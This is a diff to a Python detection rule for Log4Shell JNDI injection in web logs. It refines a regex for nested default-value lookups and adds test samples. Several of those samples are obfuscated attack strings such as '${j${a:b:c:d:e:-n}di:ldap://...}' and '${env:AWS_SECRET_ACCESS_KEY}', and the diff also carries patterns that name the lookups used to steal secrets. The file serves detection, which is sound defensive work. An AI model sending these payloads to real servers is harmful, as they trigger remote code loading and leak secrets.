@@ -17,7 +17,13 @@ __all__ = ["Log4ShellJndi", "Log4ShellLookup", "resolve_lookups"]
 
 # Lookups that evaluate to a literal: ${lower:j}, ${upper:J}, ${::-j}, ${env:X:-j}, ${date:'j'}.
 _CASE_LOOKUP = re.compile(r"\$\{\s*(?:lower|upper)\s*:([^${}]{0,64})\}")
-_DEFAULT_LOOKUP = re.compile(r"\$\{(?:[^${}:]{0,64}:){1,4}-([^${}]{0,64})\}")
+# Log4j splits a lookup at its first ":-" (``${a:b:c:d:e:-n}`` is "n" whatever comes before):
+# the name is text without ":-": characters but ":", or a run of colons and one character but
+# ":" or "-". Each piece of the name can be read one way only (a run of colons is taken whole),
+# so a failed match backtracks a step per piece, and the body holds no "$", "{" or "}": each
+# "${" is read up to the next of those at most. The work stays linear in the text. (Not a
+# possessive loop: Python 3.11's fails on this alternation.)
+_DEFAULT_LOOKUP = re.compile(r"\$\{(?:[^${}:]|:+[^${}:-])*:+-([^${}]{0,64})\}")
 _DATE_LOOKUP = re.compile(r"\$\{\s*date\s*:\s*'([^'${}]{0,64})'\s*\}")
 _JNDI = linear_search(Regex(r"\$\{\s*jndi\s*:[^}\s]*"))
 # Whether any of those lookups is left (their bodies unbounded: a necessary condition): most
@@ -97,11 +103,14 @@ class Log4ShellJndi(Rule):
         ErrorSample(message="File does not exist: /var/www/html/${jndi:ldap://x.example/a}"),
         AccessSample(target="/", user_agent="${${date:'j'}${upper:n}di:ldap://x.example/a}"),
         AccessSample(target="/private/", status=401, user="${jndi:ldap://198.51.100.9/a}"),
+        AccessSample(target="/", user_agent="${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"),
+        AccessSample(target="/", user_agent="${j${::::::-n}di:ldap://198.51.100.9/a}"),
     )
     must_not_match = (
         AccessSample(target="/docs/jndi-datasource-howto"),
         AccessSample(target="/tpl?name=${user.name}"),
         AccessSample(target="/private/", user="jndi.admin"),
+        AccessSample(target="/", user_agent="${x:-j}ndi:ldap://x.example/a"),
     )
 
     def match_field(self, field: str, text: str) -> str | None:
@@ -137,6 +146,8 @@ class Log4ShellLookup(PatternRule):
     pattern = Regex(
         r"\$\{\s*(?:env|sys|java|lower|upper|date|ctx|main|base64|k8s|docker|spring|bundle|marker"
         r"|sd|web|log4j|jvmrunargs|event|::-)\s*:|\$\{\s*\$\{"
+        # A default-value lookup (``${x:-n}``) inside another lookup: letters spelt out.
+        r"|\$\{[^{}]*\$\{[^${}]*:-"
     )
     trigger = r"\$\{"
     gate = "{"
@@ -144,8 +155,11 @@ class Log4ShellLookup(PatternRule):
         AccessSample(target="/", user_agent="${env:AWS_SECRET_ACCESS_KEY}"),
         AccessSample(target="/?q=%24%7B%24%7Bsys%3Auser.name%7D%7D"),
         AccessSample(target="/private/", status=401, user="${env:USER}"),
+        AccessSample(target="/", user_agent="${j${a:b:c:d:e:-n}di:ldap://198.51.100.9/a}"),
     )
     must_not_match = (
         AccessSample(target="/pricing?currency=$"),
         AccessSample(target="/tpl?name=${user.name}"),
+        AccessSample(target="/", user_agent="Mozilla/5.0 ${HOME:-/root} (X11; Linux x86_64)"),
+        AccessSample(target="/tpl?a=${user.name}&b=${greeting:-hello}"),
     )
